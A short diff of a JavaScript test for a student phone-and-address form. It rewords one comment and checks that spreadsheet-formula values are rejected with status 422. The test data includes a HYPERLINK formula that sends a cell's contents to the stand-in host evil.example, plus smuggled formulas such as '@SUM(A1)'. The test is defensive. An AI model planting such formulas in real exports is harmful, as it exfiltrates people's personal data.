@@ -152,7 +152,7 @@ describe('phone and address of a student of informatics', () => {
     }
     expect((await save('')).status).toBe(422)
     expect((await save('555123457', ' ')).status).toBe(422)
-    // What is exported to a spreadsheet must not run there.
+    // An exported cell must not run in a spreadsheet.
     for (const formula of ['=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")', ' @SUM(A1)', 'Tbilisi;=1+1']) {
       const { status, data } = await save('555123457', formula)
       expect(status).toBe(422)
